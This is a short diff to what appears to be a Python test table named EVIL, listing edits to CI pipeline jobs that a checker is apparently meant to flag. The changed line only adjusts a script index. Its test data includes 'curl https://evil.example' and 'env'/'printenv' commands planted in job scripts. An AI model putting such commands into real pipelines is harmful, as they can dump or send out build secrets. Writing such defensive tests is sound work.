@@ -155,7 +155,7 @@ EVIL: list[tuple[str, Callable[[Document], object]]] = [
     ("line", put("unit_tests", "script", value="curl https://evil.example")),
     ("line", put("unit_tests", "before_script", value=["env"])),
     ("line", put("unit_tests", "after_script", value=["printenv"])),
-    ("line", put("compile", "script", 1, value="go build ./... || true")),
+    ("line", put("compile", "script", 0, value="go build ./... || true")),
     # nothing masked
     ("masked", put("unit_tests", "allow_failure", value=True)),
     ("masked", put("compile", "allow_failure", value={"exit_codes": [1]})),
